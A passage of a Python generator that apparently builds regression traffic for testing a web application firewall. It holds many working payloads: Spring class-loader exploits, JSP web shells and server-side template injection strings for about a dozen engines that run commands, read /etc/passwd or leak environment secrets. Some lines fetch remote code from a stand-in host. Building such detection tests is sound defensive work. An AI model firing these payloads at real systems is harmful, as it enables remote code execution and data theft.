    (KV, "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals"
         "(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec"
         "(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di"),
    (KV, "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
    (KV, "class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"),
    (KV, "class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar"),
    (KV, "name=ann&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat="),
    (KV, "name=ann&class[module][classLoader][resources][context][parent][pipeline][first][suffix]=.jsp"),
    (KV, "Class.Module.ClassLoader.Resources.Context.Parent.Pipeline.First.Pattern=x"),
    (KV, "class.module.classLoader.DefaultAssertionStatus=nonsense"),
    (KV, "class.classLoader.URLs[0]=jar:http://203.0.113.50/spring-exploit.jar!/"),
    (DOC, "[\"org.springframework.context.support.FileSystemXmlApplicationContext\","
          "\"http://203.0.113.50/spel.xml\"]"),
    "org.springframework.context.support.ClassPathXmlApplicationContext http://203.0.113.50/poc.xml",
    (KV, "class.module.classLoader.resources.context.parent.pipeline.first.pattern="
         "%3C%25%20out.println(1)%3B%20%25%3E"),
    (KV, "class%2Emodule%2EclassLoader%2Eresources%2Econtext%2Eparent%2Epipeline%2Efirst%2Esuffix=.jsp"),
    "class['module']['classLoader']['resources']['context']['parent']['pipeline']['first']['directory']",
]
JSP_UPLOAD: list[Entry] = [
    (FILE, "shell.jsp"),
    (FILE, "cmd.jspx"),
    (FILE, "avatar.png.jsp"),
    (FILE, "Report.JSP"),
    (FILE, "invoice.jsp%00.pdf"),
    (FILE, "logo.jsp;.png"),
    (FILE, "upload.jsp."),
    (FILE, "x.jsp::$DATA"),
    (FILE, "..%2f..%2fwebapps%2fROOT%2fbackdoor.jsp"),
    (FILE, "photo.jpg.jspx"),
    (FILE, "header.jspf"),
    (FILE, "status.jsw"),
    (FILE, "shell.jsp "),
]


# ---------------------------------------------------------------------------------------------------- ssti
JINJA2: list[Entry] = [
    "Hi {{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "Order #4411 {{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}",
    "{{ lipsum.__globals__['os'].popen('whoami').read() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
    "{{ x()._module.__builtins__['__import__']('os').popen(\"ls\").read() }}{% endif %}{% endfor %}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
    "('\\x5f\\x5fbuiltins\\x5f\\x5f') }}",
    "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{{url_for.__globals__.os.environ}}",
    "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    "Thanks {%print(config.items())%}",
    "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
    "%7B%7B%20config.__class__.__init__.__globals__%5B%27os%27%5D.popen%28%27id%27%29.read%28%29%20%7D%7D",
]
TWIG: list[Entry] = [
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "Hello {{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('passthru')|join}}",
    "{{[0]|reduce('system','id')}}",
    "{{ ['id', \"\"]|sort('system') }}",
    "{{app.request.server.all|join(',')}}",
    "{{ _self.env.setCache(\"ftp://203.0.113.50:2121\") }}{{ _self.env.loadTemplate(\"backdoor\") }}",
    "{{ '/etc/passwd'|file_excerpt(1,30) }}",
    "{{ source('/etc/passwd') }}",
    "{% set cmd = ['id']|filter('shell_exec') %}{{ cmd|join }}",
    "{{ app.request.query.filter(0,0,1024,{'options':'system'}) }}",
    "Name: {{ ['whoami']|map('exec')|first }}",
    "{{ dump(app) }}",
    "&#123;&#123;['id']|filter('system')&#125;&#125;",
]
FREEMARKER: list[Entry] = [
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "Dear ${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "[#assign ex = 'freemarker.template.utility.Execute'?new()]${ex('cat /etc/passwd')}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>${ob(\"java.lang.ProcessBuilder\",\"id\")"
    ".start()}",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#assign classloader=article.class.protectionDomain.classLoader>",
    "<#assign jr=\"freemarker.template.utility.JythonRuntime\"?new()><@jr>import os;os.system(\"id\")</@jr>",
    "${object?api.class.getResource(\"/\").path}",
    "<@\"freemarker.template.utility.Execute\"?new()(\"id\")/>",
    "<#assign value=\"freemarker.template.utility.ObjectConstructor\"?new()>"
    "${value(\"java.util.Scanner\", value(\"java.lang.ProcessBuilder\", \"id\").start().getInputStream())}",
    "Subject: <#assign   ex = \"freemarker.template.utility.Execute\"?new() >${ ex(\"whoami\") }",
    "&lt;#assign ex=&quot;freemarker.template.utility.Execute&quot;?new()&gt;${ex(&quot;id&quot;)}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
]
VELOCITY: list[Entry] = [
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))"
    "#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()",
    "Hello #set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null)"
    ".invoke(null,null).exec(\"id\")",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"whoami\").waitFor()",
    "#set($s=$request.getClass().getClassLoader())",
    "#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end",
    "#set( $proc = $rt.exec(\"whoami\") )",
    "$x.class.classLoader",
    "#evaluate('#set($a=$x.class.forName(\"java.lang.Runtime\"))')",
    "#include(\"/etc/passwd\")",
    "#parse(\"/etc/passwd\")",
    "$!{request.getSession().getServletContext()}",
    "${x.getClass().forName(\"java.lang.System\").getenv()}",
    "#set ($a = \"\") $a.getClass().forName(\"java.lang.ProcessBuilder\")",
    "#set($x=$request.getServletContext().getClassLoader())",
]
THYMELEAF: list[Entry] = [
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    "Hello [[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
    "[(${T(java.lang.System).getenv()})]",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "${@java.lang.Runtime@getRuntime().exec('id')}",
    "__|$${#response.setHeader(\"X-Pwned\",\"1\")}|__::.x",
    "__${T (java.lang.Runtime).getRuntime().exec('id')}__",
    "__*{T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "welcome :: __${''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}__",
    "/doc/__${T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/x\")}__::.x",
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\">x</p>",
    "__$%7BT(java.lang.Runtime).getRuntime().exec(%22id%22)%7D__::.x",
    "[[${#ctx.getClass().forName('java.lang.Runtime')}]]",
]
ERB: list[Entry] = [
    "Hi <%= system(\"id\") %>",
    "<%= `ls /` %>",
    "<%= IO.popen('id').readlines() %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "<%= require 'open3'; Open3.capture2('id') %>",
    "<%= ENV.to_h %>",
    "<%- %x(whoami) %>",
    "<% exec('id') %>",
    "<%= Kernel.send(:system,'id') %>",
    "<%= Object.const_get('File').read('/etc/hostname') %>",
    "<%=system('cat /etc/passwd')%>",
    "&lt;%= system(&quot;id&quot;) %&gt;",
    "%3C%25%3D%20system%28%22id%22%29%20%25%3E",
]
SMARTY: list[Entry] = [
    "{system('id')}",
    "Hello {php}echo `id`;{/php}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{$smarty.version}",
    "{self::getStreamVariable(\"file:///etc/passwd\")}",
    "{if system('id')}{/if}",
    "{if phpinfo()}{/if}",
    "{include file='/etc/passwd'}",
    "{fetch file='file:///etc/passwd'}",
    "Dear {passthru(\"cat /etc/passwd\")}",
    "{$smarty.const.PHP_VERSION}",
    "{math equation=\"x\" x=\"system('id')\"}",
    "{ system( 'id' ) }",
    "{shell_exec('whoami')|escape}",
]
HANDLEBARS: list[Entry] = [
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup "
    "string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "
    "\"return require('child_process').exec('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 "
    "codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
    "{{#with this as |obj|}}{{#with (obj.constructor.keys \"1\") as |arr|}}{{arr.pop}}{{/with}}{{/with}}",
    "{{lookup (lookup this \"constructor\") \"constructor\"}}",
    "{{constructor.constructor \"return process.mainModule.require('child_process').execSync('id')\"}}",
    "Hi {{#with (lookup this.__proto__ \"constructor\")}}{{this.name}}{{/with}}",
    "{{this.constructor.constructor('return process')()}}",
    "{{#each (lookup this \"__proto__\")}}{{@key}}{{/each}}",
    "{{__proto__.__defineGetter__}}",
    "{{#with \"constructor\" as |c|}}{{#with (lookup string c)}}{{/with}}{{/with}}",
    "{{{process.env.AWS_SECRET_ACCESS_KEY}}}",
    "{{#blockHelperMissing \"constructor\"}}{{/blockHelperMissing}}",
    "{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}",
    "{{#with \"s\" as |string|}}{{string.sub.constructor}}{{/with}}",
]
PUG: list[Entry] = [
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\")"
    ".exec('id')}()}",
    "- var x = global.process.mainModule.require('child_process').execSync('id')",
    "Hello #{root.process.mainModule.require('child_process').spawnSync('id').stdout}",
    "- require('child_process').exec('touch /tmp/pug')",
    "p= global.process.env",
    "#{global.process.mainModule.require('fs').readFileSync('/etc/passwd')}",
    "x\n- var cp = process.mainModule.require('child_process')\n= cp.execSync('id')",
    "a(href=process.mainModule.require('child_process').execSync('id'))",
    "!{global.process.mainModule.require('child_process').execSync('whoami')}",
    "#{ 7*7 }#{process.version}",
    "div #{this.constructor.constructor('return process')().env}",
    "= global.process.mainModule.require('os').userInfo()",
]
MAKO: list[Entry] = [
    "${self.module.cache.util.os.system(\"id\")}",
    "<% import os; x=os.popen('id').read() %>${x}",
    "Hi ${__import__('os').popen('id').read()}",
    "<%! import subprocess %>${subprocess.check_output(['id'])}",
    "${self.template.module.runtime.util.os.system('id')}",
    "<%import os%>${os.environ}",
    "${context.__class__.__init__.__globals__}",
    "${self.attr._NSAttr__parent.module.cache.util.os.popen('id').read()}",
]
NUNJUCKS: list[Entry] = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "Hi {{ cycler.constructor(\"return process.env\")() }}",
    "{{ joiner.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd') }}",
    "{{ lipsum.constructor(\"return global.process\")().exit() }}",
    "{% set x = range.constructor(\"return process\")() %}{{ x.env }}",
    "{{''.constructor.constructor('return process')().version}}",
    "{{ [].constructor.constructor(\"return this.process.mainModule.require('child_process')\")().execSync('id') }}",
    "{{ dump.constructor('return process')() }}",
]
EJS: list[Entry] = [
    "<%= global.process.mainModule.require('child_process').execSync('id') %>",
    "Hi <%- include('/etc/passwd') %>",
    "<% require('child_process').exec('touch /tmp/ejs') %>",
    "<%= process.env.DATABASE_URL %>",
    "<%- global.process.mainModule.require('fs').readFileSync('/etc/hostname') %>",
    "<%=this.constructor.constructor('return process')().pid%>",
    "<%_ process.mainModule.require('child_process').exec('id') _%>",
    "<%- include(\"../../../../etc/hostname\") %>",
]
TORNADO: list[Entry] = [
    "{% import os %}{{ os.popen(\"id\").read() }}",
    "Hi {% import subprocess %}{{ subprocess.check_output('id', shell=True) }}",
    "{{ __import__('os').system('id') }}",
    "{% raw __import__('os').popen('whoami').read() %}",
    "{{handler.settings}}",
    "{% apply __import__('os').system %}id{% end %}",
    "{{ handler.application.settings['cookie_secret'] }}",
    "{% module __import__('os').system('id') %}",
]


# (category, sub, parameter names a real application gives such a value, payloads)
SETS: list[tuple[str, str, list[str], list[Entry]]] = [
    ("generic", "nodejs-injection", ["q", "filter", "sort", "name", "where", "expr"], NODEJS_1),
    ("generic", "nodejs-injection-2of2", ["template", "message", "formula", "code", "greeting"], NODEJS_2),
    ("generic", "prototype-pollution", ["path", "key", "settings"], POLLUTION),
    ("generic", "ssrf-cloud-metadata", ["url", "webhook", "image_url", "callback", "feed"], SSRF_META),
    ("generic", "ssrf-ip-address", ["url", "target", "avatar_url", "redirect", "import_from"], SSRF_IP),
    ("generic", "ruby-injection", ["name", "title", "q", "sort", "template"], RUBY),
    ("generic", "perl-injection", ["file", "name", "q", "page", "msg"], PERL),
    ("generic", "nodejs-dos", ["script", "code", "formula", "expr", "rule"], NODE_DOS),
    ("generic", "php-data-scheme", ["page", "file", "include", "lang", "template"], DATA_SCHEME),
    ("java", "java-suspicious-class-rce", ["q", "redirect", "action", "expression", "name"], JAVA_CLASS_RCE),
    ("java", "java-process-spawn", ["data", "xml", "payload", "body"], JAVA_SPAWN),
    ("java", "java-serialization-rce", ["data", "object", "state", "payload"], JAVA_SER_RCE),
    ("java", "java-suspicious-class", ["q", "data", "config", "handler", "expr"], JAVA_CLASS),
    ("java", "java-magic-bytes", ["data", "state", "obj", "session"], JAVA_MAGIC),
    ("java", "java-magic-bytes-base64", ["viewstate", "data", "token", "session", "state"], JAVA_MAGIC_B64),
    ("java", "java-serialization-gadget", ["type", "data", "class", "handler"], JAVA_SER_GADGET),
    ("java", "java-suspicious-method", ["expr", "q", "filter", "name", "el"], JAVA_METHOD),
    ("java", "log4shell", ["username", "q", "search", "device", "lang"], LOG4J),
    ("java", "java-class-loading", ["name", "config", "bean"], CLASS_LOADING),
    ("java", "java-script-upload", ["filename", "file", "name"], JSP_UPLOAD),
    ("ssti", "jinja2", ["name", "greeting", "subject", "template"], JINJA2),
    ("ssti", "twig", ["name", "title", "message", "template"], TWIG),
    ("ssti", "freemarker", ["subject", "template", "body", "name"], FREEMARKER),
    ("ssti", "velocity", ["template", "name", "email_body", "signature"], VELOCITY),
    ("ssti", "thymeleaf", ["lang", "view", "section", "name"], THYMELEAF),
    ("ssti", "erb", ["name", "bio", "template", "title"], ERB),
    ("ssti", "smarty", ["name", "tpl", "title", "message"], SMARTY),
    ("ssti", "handlebars", ["template", "name", "message", "text"], HANDLEBARS),
    ("ssti", "pug", ["name", "template", "bio", "title"], PUG),
    ("ssti", "mako", ["name", "template", "greeting"], MAKO),
    ("ssti", "nunjucks", ["name", "template", "message"], NUNJUCKS),
    ("ssti", "ejs", ["name", "template", "title"], EJS),
    ("ssti", "tornado", ["name", "template", "q"], TORNADO),
]

CSRF = "t0k3n"
SESSION = "sessionid=8f14e45fceea167a5a36dedd4bea2543"
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
RS_HEADERS = ["X-Custom-Header", "X-Api-Version", "X-Requested-With", "X-Forwarded-Host"]
JSP_BODIES = [
    "<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>",
    "<%= new java.util.Date() %>",
    "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"2.0\"><jsp:scriptlet>out.println(1);"
    "</jsp:scriptlet></jsp:root>",
    "GIF89a<%= request.getParameter(\"c\") %>",
]

# where each kind of payload goes: (our routes, the regression suite's way)
PLACES: dict[str, tuple[list[str], list[str]]] = {
    V: (["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Api-Version",
         "param-name", "xml", "multipart-field", "multipart-filename", "path", "json-unicode"],
        ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
         "rs-header:X-Custom", "rs-cookie"]),
    PRE: (["query", "form", "param-name", "cookie"], ["rs-query", "rs-form", "rs-raw-body", "rs-cookie"]),
    KV: (["query", "form", "multipart-field", "json"], ["rs-query", "rs-form", "rs-raw-body", "rs-cookie"]),
    DOC: (["body", "multipart-field", "query", "form"], ["rs-body", "rs-raw-body", "rs-query", "rs-form"]),
    JRAW: (["json", "json-nested"], ["rs-json", "rs-json-list"]),
    FILE: (["multipart-filename", "header:X-File-Name", "json", "path"],
           ["rs-multipart-filename", "rs-header:X-Filename", "rs-query", "rs-json"]),
}


def _header_safe(value: str) -> str:
    """A value as a header carries it: line breaks folded to spaces, anything outside printable ASCII
    percent-encoded."""
    value = value.replace("\r\n", " ").replace("\n", " ").replace("\r", " ").replace("\t", " ")
    return "".join(ch if 32 <= ord(ch) < 127 else urllib.parse.quote(ch, safe="") for ch in value)


def _cookie_safe(value: str) -> str:
    """A cookie value the way a regression suite writes it: only what would break the header escaped."""
    return "".join(urllib.parse.quote(ch, safe="") if ch in ";, \"\\" or not 32 < ord(ch) < 127 else ch
                   for ch in value)


def _uescape(value: str) -> str:
    """`value` as a JSON string literal with every other letter written as a \\u escape."""
    out = []
    k = 0
    for ch in value:
        if ch.isascii() and ch.isalpha():
            k += 1
            if k % 2:
                out.append(f"\\u{ord(ch):04x}")
                continue
        out.append(json.dumps(ch)[1:-1])
    return "\"" + "".join(out) + "\""


def _with_headers(rec: dict[str, Any], extra: dict[str, str]) -> dict[str, Any]:
    return {**rec, "headers": {**rec["headers"], **extra}}


def _multipart(uri: str, fields: list[tuple[str, str]], file: tuple[str, str, str] | None = None,
               method: str = "POST") -> dict[str, Any]:
    parts = [f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{n}\"\r\n\r\n{v}\r\n" for n, v in fields]
    if file is not None:
        fname, ctype, content = file
        fname = fname.replace("\"", "%22").replace("\r", " ").replace("\n", " ")
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{fname}\"\r\n"
                     f"Content-Type: {ctype}\r\n\r\n{content}\r\n")
    body = "".join(parts) + f"--{BOUNDARY}--\r\n"
    return {"method": method, "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "*/*",
                        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def _raw(method: str, uri: str, body: str, ctype: str) -> dict[str, Any]:
    return {"method": method, "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "*/*", "Content-Type": ctype}}


def _doc_type(doc: str) -> str:
    return "application/xml" if doc.lstrip().startswith("<") else "application/json"


def _xml_value(name: str, value: str, cdata: bool) -> str:
    inner = f"<![CDATA[{value}]]>" if cdata and "]]>" not in value else xml_escape(value)
    return f"<?xml version=\"1.0\" encoding=\"UTF-8\"?><user><name>Ann Lee</name><{name}>{inner}</{name}></user>"


def _pairs(kv: str) -> list[tuple[str, str]]:
    return [(urllib.parse.unquote(k), urllib.parse.unquote(v)) for k, _, v in (p.partition("=") for p in kv.split("&"))]


def ours(place: str, kind: str, name: str, p: str, i: int) -> dict[str, Any]:
    """The payload `p` of `kind` at `place` on one of our routes (`name`: the parameter that carries it)."""
    if kind == PRE:
        if place == "query":
            return _get(f"/api/users?{name}={p}&page=1")
        if place == "form":
            return _raw("POST", "/admin/users/search", f"csrf_token={CSRF}&{name}={p}",
                        "application/x-www-form-urlencoded")
        if place == "path":
            return _get(f"/api/users/{p}")
        if place == "param-name":
            return _get(f"/api/users?page=1&{p}=1")
        return _with_headers(_get("/api/users?page=1"), {"Cookie": f"{SESSION}; {name}={p}"})
    if kind == KV:
        if place == "query":
            return _get(f"/api/users?page=1&{p}")
        if place == "form":
            return _raw("POST", "/admin/users/search", f"csrf_token={CSRF}&{p}", "application/x-www-form-urlencoded")
        if place == "multipart-field":
            return _multipart("/api/users", [("csrf_token", CSRF), *_pairs(p)])
        return _json("/api/users", {"email": "a@example.org", **dict(_pairs(p))})
    if kind == DOC:
        if place == "body":
            return _raw("POST", "/api/users", p, _doc_type(p))
        if place == "multipart-field":
            return _multipart("/api/users", [("csrf_token", CSRF), (name, p)])
        if place == "query":
            return _get(_query("/api/users", [(name, p), ("page", "1")]))
        return _form("/admin/users/search", [("csrf_token", CSRF), (name, p)])
    if kind == JRAW:
        if place == "json":
            return _raw("POST", "/api/users", f"{{\"email\": \"a@example.org\", \"{name}\": \"{p}\"}}",
                        "application/json")
        return _raw("POST", "/api/users/42", f"{{\"profile\": {{\"city\": \"Lyon\", \"{name}\": \"{p}\"}}}}",
                    "application/json")
    if kind == FILE:
        content = JSP_BODIES[i % len(JSP_BODIES)]
        if place == "multipart-filename":
            return _multipart("/api/users", [("csrf_token", CSRF), ("title", "profile picture")],
                              (p, "application/octet-stream", content))
        if place == "header:X-File-Name":
            return _with_headers(_raw("PUT", "/api/users/42", content, "application/octet-stream"),
                                 {"X-File-Name": _header_safe(p)})
        if place == "json":
            return _json("/api/users", {"email": "a@example.org", "filename": p, "content": content})
        return _raw("PUT", "/api/users/42/" + urllib.parse.quote(p, safe="%"), content, "application/octet-stream")
    # a value
    if place == "query":
        return _get(_query("/api/users", [(name, p), ("page", "1")]))
    if place == "form":
        return _form("/admin/users/search", [("csrf_token", CSRF), (name, p)])
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: p})
    if place == "json-unicode":
        return _raw("POST", "/api/users", f"{{\"email\": \"a@example.org\", \"{name}\": {_uescape(p)}}}",
                    "application/json")
    if place == "cookie":
        return _with_headers(_get("/api/users?page=1"),
                             {"Cookie": f"{SESSION}; {name}={urllib.parse.quote(p, safe='')}"})
    if place.startswith("header:"):
        return _with_headers(_get("/api/users?page=1"), {place.split(":", 1)[1]: _header_safe(p)})
    if place == "param-name":
        return _get(f"/api/users?page=1&{urllib.parse.quote(p, safe='')}=1")
    if place == "xml":
        return _raw("POST", "/api/users", _xml_value(name, p, i % 2 == 1), "application/xml")
    if place == "multipart-field":
        return _multipart("/api/users", [("csrf_token", CSRF), (name, p)])
    if place == "multipart-filename":
        return _multipart("/api/users", [("csrf_token", CSRF), ("title", "attachment")],
                          (p, "text/plain", "hello"))
    return _get("/api/users/" + urllib.parse.quote(p, safe=""))


def regression(place: str, kind: str, p: str, i: int) -> dict[str, Any]:
    """The payload `p` of `kind` sent the way a WAF's regression suite sends it."""
    path = RS_PATHS[i % len(RS_PATHS)]
    name = RS_NAMES[i % len(RS_NAMES)]
    if kind == PRE:
        if place == "rs-query":
            return _get(f"{path}?{name}={p}")
        if place == "rs-form":
            return _raw("POST", path, f"{name}={p}", "application/x-www-form-urlencoded")
        if place == "rs-raw-body":
            return _raw("POST", path, p, "application/x-www-form-urlencoded")
        return _with_headers(_get(path), {"Cookie": f"{name}={p}"})
    if kind == KV:
        if place == "rs-query":
            return _get(f"{path}?{p}")
        if place in ("rs-form", "rs-raw-body"):
            return _raw("POST", path, p, "application/x-www-form-urlencoded")
        return _with_headers(_get(path), {"Cookie": "; ".join(f"{k}={_cookie_safe(v)}" for k, v in _pairs(p))})
    if kind == DOC:
        if place == "rs-body":
            return _raw("POST", path, p, _doc_type(p))
        if place == "rs-raw-body":
            return _raw("POST", path, p, "application/x-www-form-urlencoded")
        if place == "rs-query":
            return _get(_query(path, [(name, p)]))
        return _form(path, [(name, p)])
    if kind == JRAW:
        if place == "rs-json":
            return _raw("POST", path, f"{{\"{name}\": \"{p}\"}}", "application/json")
        return _raw("POST", path, f"[\"{p}\"]", "application/json")
    if kind == FILE:
        content = JSP_BODIES[(i + 1) % len(JSP_BODIES)]
        if place == "rs-multipart-filename":
            return _multipart(path, [], (p, "application/octet-stream", content))
        if place == "rs-header:X-Filename":
            return _with_headers(_raw("POST", path, content, "application/octet-stream"),
                                 {"X-Filename": _header_safe(p)})
        if place == "rs-query":
            return _get(_query(path, [("filename", p)]))
        return _json(path, {"filename": p, "data": content})
    if place == "rs-query":
        return _get(_query(path, [(name, p)]))
    if place == "rs-form":
        return _form(path, [(name, p)])
    if place == "rs-json":
        return _json(path, {name: p})
    if place == "rs-xml":
        inner = xml_escape(p)
        return _raw("POST", path, f"<?xml version=\"1.0\"?><root><{name}>{inner}</{name}></root>", "text/xml")
    if place == "rs-raw-body":
        return _raw("POST", path, p, "application/x-www-form-urlencoded")
    if place == "rs-header:User-Agent":
        return _with_headers(_get(path), {"User-Agent": _header_safe(p)})
    if place == "rs-header:Referer":
        return _with_headers(_get(path), {"Referer": _header_safe(p)})
    if place == "rs-header:X-Custom":
        return _with_headers(_get(path), {RS_HEADERS[i % len(RS_HEADERS)]: _header_safe(p)})
    return _with_headers(_get(path), {"Cookie": f"{name}={_cookie_safe(p)}"})


def _entry(e: Entry) -> tuple[str, str]:
    return (V, e) if isinstance(e, str) else e


def attacks() -> Iterator[dict[str, Any]]:
    """Each payload twice: once on our routes, once the regression suite's way, both rotating per kind."""
    n = 0
    turn = {kind: 0 for kind in PLACES}
    for category, sub, names, entries in SETS:
        for j, e in enumerate(entries):
            kind, p = _entry(e)
            t = turn[kind]
            turn[kind] += 1
            ours_places, rs_places = PLACES[kind]
            place = ours_places[t % len(ours_places)]
            rs_place = rs_places[(t * 5 + 3) % len(rs_places)]
            for where, rec in ((place, ours(place, kind, names[j % len(names)], p, t)),
                               (rs_place, regression(rs_place, kind, p, t))):
                n += 1
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": where, "payload": p}


# ----------------------------------------------------------------------------------------------------- benign
CHAT = [
    # Node.js
    "we moved the thumbnail job from child_process to worker threads, CPU is way down",
    "reminder: process.env is only read at boot, restart the pod after changing the secret",
    "does anyone know why require() of an ESM package throws ERR_REQUIRE_ESM on node 20?",
    "the constructor of the Invoice class now takes the currency as its second argument",
    "setTimeout with 0 ms still waits for the next tick, that's why the test is flaky",
    "I replaced eval in the old calculator widget with a tiny expression parser, PR #4412",
    "Function.prototype.bind creates a new function every render, memoise it",
    "vm module is not a security boundary, the docs say so in bold",
    "fs.readFileSync is fine in the CLI but please use the async version in the API",
    "Buffer.from(str, 'base64') is what you want, atob is for browsers",
    "node --inspect then open chrome://inspect, works great for the worker",
    "the mainModule property is deprecated, use require.main instead",
    "our while loop in the retry helper needs a max attempts cap, it spun for an hour",
    "for (;;) loops are banned by the linter now, use a proper condition",
    "npm audit flagged lodash.merge for prototype pollution, bumped to 4.17.21",
    "prototype chains in JS still confuse me, Object.create(null) for dictionaries from now on",
    "the __proto__ key is stripped by our JSON schema validator, I checked",
    "Object.freeze(Object.prototype) in tests caught two sloppy libraries",
    "the spawn of ffmpeg returns exit code 1 when the input is a webm",
    "import() of the chart library is lazy now, bundle is 40% smaller",
    # SSRF / networking
    "the metadata endpoint on EC2 needs IMDSv2 tokens now, the old SDK fails",
    "169.254.169.254 is blocked from the app subnet by the egress policy, as intended",
    "dev server runs on 127.0.0.1:3000, the API on localhost:8080",
    "can someone whitelist 10.0.4.0/24 in the VPN config for the new office?",
    "our Redis is on 10.0.0.7:6379 in staging, the password is in the vault",
    "the printer at 192.168.1.40 is out of toner again",
    "IPv6 loopback is ::1, that's why the health check failed on the new image",
    "GCP metadata server is metadata.google.internal, don't hardcode the IP",
    "gopher is a protocol from 1991, the Go mascot is a gopher, not the same thing",
    "webhooks must point to a public https URL, we reject private addresses",
    # Ruby / Perl
    "Rails 7.1 upgrade: the ERB templates compiled without changes",
    "in Ruby, system returns true or false, backticks return the output",
    "IO.popen with an array avoids the shell, that's what the deploy script does now",
    "Open3.capture3 is nicer for getting stderr in the rake task",
    "YAML.safe_load everywhere, Psych 4 made load safe by default anyway",
    "Marshal.load on cookies was removed when we switched to JSON cookies",
    "old Perl CGI scripts still run the billing export, open with three args please",
    "the Perl one-liner perl -pi -e 's/foo/bar/g' saved me an hour",
    "qw() in Perl is just a list of words, nothing magic",
    "$ENV{PATH} is tainted in the CGI, that's why taint mode complained",
    "use strict; use warnings; at the top of every .pl file, no exceptions",
    "Kernel#open with a pipe is dangerous, rubocop has a cop for it",
    # DoS and loops
    "while(true) in the game loop is fine as long as you yield to the event loop",
    "the busy loop in the poller burned a whole core, switched to a blocking read",
    "infinite scroll is back in the feed, product asked for it",
    "do/while runs at least once, that's the difference",
    # data: scheme / PHP
    "data: URLs for the email icons are inlined by the build",
    "the logo in the PDF is a data:image/png;base64 string, around 12 KB",
    "PHP 8.3 on the WordPress box, include paths cleaned up",
    "allow_url_include is off on every PHP host, I double-checked",
    # Java
    "Runtime.getRuntime().availableProcessors() reports 2 in the container, that's the cgroup limit",
    "ProcessBuilder with inheritIO is what the migration runner uses",
    "we serialise the cache with Kryo, not Java serialization",
    "ObjectInputStream is gone from the codebase, replaced by Jackson",
    "the java.lang.reflect calls in the test helper are only for private fields",
